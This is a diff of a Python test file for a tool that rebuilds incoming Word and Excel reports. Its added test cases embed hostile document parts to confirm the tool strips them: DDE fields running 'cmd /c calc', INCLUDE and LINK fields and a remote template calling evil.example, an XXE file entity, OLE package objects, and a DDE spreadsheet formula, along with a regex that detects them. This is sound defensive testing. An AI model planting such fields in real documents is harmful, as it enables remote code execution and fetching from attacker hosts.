@@ -2,6 +2,7 @@
 
 import datetime as dt
 import hashlib
+import re
 import shutil
 import time
 import zipfile
@@ -193,42 +194,88 @@ def test_a_word_report_is_shaded_and_commented_where_it_is_wrong(night, tmp_path
     assert openpyxl.load_workbook(told["Cần sửa - BC.xlsx"]).sheetnames == ["Cần sửa"]
 
 
-@pytest.mark.parametrize("part", [
-    ("word/embeddings/oleObject1.bin", "x"),
-    ("word/vbaProject.bin", "x"),
-    ("word/_rels/settings.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" '
-                                     'Target="http://x/t.dotm" TargetMode="External"/></Relationships>'),
-    ("word/_rels/settings.xml.rels", "<Relationships><Relationship Id='r' Type='http://x/attachedTemplate' "
-                                     "Target='http://x/t.dotm' TargetMode = 'External'/></Relationships>"),
-    ("word/_rels/document9.xml.rels", '<Relationships><Relationship Id="r" Type="http://x/aFChunk" '
-                                      'Target="plain.txt"/></Relationships>'),
-    ("word/footer9.xml", f'<w:ftr xmlns:w="{W}"><w:instrText> DDEAUTO c:\\\\cmd </w:instrText></w:ftr>'),
-    ("word/footer9.xml", f'<x:ftr xmlns:x="{W}"><x:fldChar x:fldCharType="begin"/><x:instrText>DD</x:instrText>'
-                         '<x:instrText>E c:\\\\cmd</x:instrText><x:fldChar x:fldCharType="end"/></x:ftr>'),
-    ("word/footer9.xml", f"<w:ftr xmlns:w='{W}'><w:fldSimple w:instr='INCLUDEPICTURE http://x/y.png'/></w:ftr>"),
-    ("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>'),
-    ("word/footer9.xml", "<w:ftr><w:t>a prefix that nothing declares"),
-])
-def test_a_word_report_that_would_fetch_or_run_something_is_not_copied(night, tmp_path, part):
+FIELD = '<w:p><w:fldSimple w:instr="{0}"><w:r><w:t>a</w:t></w:r></w:fldSimple></w:p>'
+SPLIT = ("".join(f'<w:r><w:{part}</w:r>' for part in (
+    'fldChar w:fldCharType="begin"/>', "instrText> DD</w:instrText>", "instrText>E{0}</w:instrText>",
+    'fldChar w:fldCharType="separate"/>', "t>a</w:t>", 'fldChar w:fldCharType="end"/>')))
+RELATION = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
+ACTS = re.compile(rb"DDE|INCLUDE|LINK|MERGE|http://evil|cmd|evil|TargetMode|fldSimple|fldChar|instrText|altChunk|object")
+HOSTILE_PARTS = [   # a part of a Word report, and what stands in it
+    ("word/header1.dat", f'<w:hdr xmlns:w="{W}">{FIELD.format("DDEAUTO cmd /c calc")}</w:hdr>'),
+    ("word/header1.xml", f'<w:hdr xmlns:w="{W}"><w:p>{SPLIT.format("AUTO cmd calc")}</w:p></w:hdr>'),
+    ("word/document.xml", FIELD.format("INCLUDETEXT http://evil.example/x")),
+    ("word/document.xml", FIELD.format("INCLUDEPICTURE &quot;http://evil.example/x.png&quot; \\d")),
+    ("word/document.xml", FIELD.format("LINK Excel.Sheet.12 http://evil.example/x.xlsx")),
+    ("word/document.xml", FIELD.format("HYPERLINK file://evil.example/x")),
+    ("word/document.xml", f"<w:p>{SPLIT.format('AUTO cmd calc')}</w:p>"),
+    ("word/document.xml", f"<w:p>{SPLIT.format(SPLIT.format(' cmd'))}</w:p>"),
+    ("word/document.xml", "<w:p><w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r></w:p>"),
+    ("word/document.xml", '<w:altChunk r:id="evil"/>'),
+    ("word/document.xml", '<w:p><w:r><w:object><o:OLEObject r:id="evil" ProgID="Package"/></w:object></w:r></w:p>'),
+    ("word/settings.xml", f'<w:settings xmlns:w="{W}"><w:mailMerge><w:query w:val="SELECT evil"/></w:mailMerge>'
+                          '<w:attachedTemplate w:val="evil"/></w:settings>'),
+    ("word/_rels/settings.xml.rels", RELATION.format('<Relationship Id="evil" Type="http://x/attachedTemplate" '
+                                                     'Target="http://evil.example/t.dotm" TargetMode="External"/>')),
+    ("word/_rels/document9.xml.rels", RELATION.format('<Relationship Id="evil" Type="http://x/unheardOf" '
+                                                      'Target="evil.bin"/>')),
+    ("word/embeddings/oleObject1.bin", "evil"), ("word/vbaProject.bin", "evil"), ("evil.dat", "evil"),
+    ("customXml/item9.xml", "<evil/>"), ("word/footnotes.xml", "<evil"),
+    ("word/footer9.xml", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///evil">]><x>&y;</x>'),
+]
+
+
+def with_part(path: Path, name: str, content: str) -> bytes:
+    """The Word report with a part more, or with more in the body of its document."""
+    with zipfile.ZipFile(path) as archive:
+        parts = {n: archive.read(n) for n in archive.namelist()}
+    document = parts["word/document.xml"].decode()
+    if name == "word/document.xml":
+        content = document.replace("<w:body>", f"<w:body>{content}", 1)
+    parts[name] = content.encode()
+    stream = BytesIO()
+    with zipfile.ZipFile(stream, "w") as archive:
+        for part, data in parts.items():
+            archive.writestr(part, data)
+    return stream.getvalue()
+
+
+@pytest.mark.parametrize(("name", "content"), HOSTILE_PARTS, ids=range(len(HOSTILE_PARTS)))
+def test_nothing_of_a_word_reports_package_comes_back(night, tmp_path, name, content):
     path = tmp_path / "hostile.docx"
     path.write_bytes(report(tmp_path, "docx_plain"))
-    with zipfile.ZipFile(path, "a") as archive:
-        archive.writestr(*part)
-    night.came("BC.docx", path.read_bytes())
-    night.found("BC.docx", sheet="Đoạn 2", cell="2")
-    assert night.told().keys() == {"Cần sửa - BC.xlsx", LETTER}
+    night.came("BC.docx", with_part(path, name, content))
+    night.found("BC.docx", sheet="Đoạn 2" if name != "word/document.xml" else "Đoạn 3")
+    told = night.told()
+    assert "Cần sửa - BC.xlsx" in told
+    copy = told["Cần sửa - BC.docx"]
+    ours = BytesIO()
+    Document().save(ours)
+    with zipfile.ZipFile(copy) as package, zipfile.ZipFile(ours) as template:
+        assert set(package.namelist()) <= {*template.namelist(), "word/comments.xml"}
+        for part in package.namelist():
+            content = package.read(part)
+            if part == "word/styles.xml" or (part in template.namelist() and content == template.read(part)):
+                continue
+            assert not ACTS.search(content), part
 
 
-def test_links_of_a_word_report_lead_nowhere_in_the_copy_and_its_author_is_the_office(night, tmp_path):
-    document = Document(BytesIO(report(tmp_path, "docx_plain")))
-    document.core_properties.author = "Nguyễn Văn A"
-    document.part.relate_to("http://evil.example/x", "http://schemas.openxmlformats.org/officeDocument/2006/"
-                            "relationships/hyperlink", is_external=True)
-    night.came("BC.docx", saved(document))
-    night.found("BC.docx", sheet="Đoạn 2", cell="2")
-    path = night.told()["Cần sửa - BC.docx"]
-    assert b"evil.example" not in b"".join(zipfile.ZipFile(path).read(n) for n in zipfile.ZipFile(path).namelist())
-    assert Document(str(path)).core_properties.author == CAMPAIGN.document.issuer_name
+def test_word_report_is_written_anew_with_its_texts_tables_and_merged_cells(night, tmp_path):
+    original = Document()
+    original.add_paragraph("Kính gửi: Ban Tuyên giáo").add_run(" =1+1").bold = True
+    table = original.add_table(rows=3, cols=3)
+    table.cell(0, 0).merge(table.cell(1, 0)).text = "Chi bộ"
+    table.cell(0, 1).merge(table.cell(0, 2)).text = "Đảng viên"
+    for column, text in enumerate(("Thôn A", "20", "40")):
+        table.cell(2, column).text = text
+    night.came("BC.docx", saved(original))
+    night.found("BC.docx", sheet="Bảng 1", cell="C3")
+    night.found("BC.docx", sheet="Bảng 1", cell="C1", value="Đảng viên", message="Hai cột.")
+    copy = Document(str(night.told()["Cần sửa - BC.docx"]))
+    assert copy.paragraphs[1].text == "Kính gửi: Ban Tuyên giáo =1+1"
+    assert [[cell.text for cell in row.cells] for row in copy.tables[0].rows] == [
+        ["Chi bộ", "Đảng viên", "Đảng viên"], ["Chi bộ", "", ""], ["Thôn A", "20", "40"]]
+    assert sorted(comment.text for comment in copy.comments) == ["Sai: Hai cột.", f"Sai: {MESSAGE}"]
+    assert copy.core_properties.author == CAMPAIGN.document.issuer_name
 
 
 def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_its_hidden_name(night):
@@ -238,6 +285,11 @@ def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_
     chart.add_data(openpyxl.chart.Reference(book["Chi bộ"], min_col=1, min_row=1, max_row=2))
     book["Chi bộ"].add_chart(chart, "D4")
     book["Chi bộ"].defined_names["Print_Area"] = DefinedName("Print_Area", attr_text="'Chi bộ'!$A$1")
+    book["Chi bộ"].add_table(openpyxl.worksheet.table.Table(displayName="T", ref="A3:B4"))
+    book["Chi bộ"]["A3"], book["Chi bộ"]["B3"] = "một", "hai"
+    book["Chi bộ"].oddHeader.center.text = "&G evil"
+    book["Chi bộ"]["B2"].comment = openpyxl.comments.Comment("evil", "Nguyễn Văn A")
+    book["Chi bộ"]["XFD1048576"] = "xa"
     book.create_sheet("Nguyễn Văn A")["G5"] = "40"
     book.create_chartsheet("Biểu đồ").add_chart(openpyxl.chart.BarChart())
     book["Chi bộ"]["B1"].value, book["Chi bộ"]["B1"].data_type = "=cmd|'/c calc'!A1", "s"
@@ -249,7 +301,10 @@ def test_a_workbook_comes_back_without_what_could_act_and_its_sheet_is_known_by_
     assert marked["Nguyễn Văn A"]["G5"].comment
     assert marked["Chi bộ"]["B1"].data_type == "s" and not marked["Chi bộ"].defined_names
     assert marked.properties.creator == CAMPAIGN.document.issuer_name
-    assert not [n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n]
+    assert marked["Chi bộ"]["B1"].quotePrefix and not marked["Chi bộ"]["A1"].quotePrefix
+    assert (marked["Chi bộ"]["A1"].value, marked["Chi bộ"]["XFD1048576"].value) == (1, "xa")
+    assert not [n for n in zipfile.ZipFile(path).namelist() if "chart" in n or "media" in n or "table" in n]
+    assert "evil" not in "".join(zipfile.ZipFile(path).read(n).decode() for n in zipfile.ZipFile(path).namelist())
 
 
 def test_the_letter_says_which_file_which_cell_what_to_do_and_by_when(night, tmp_path):
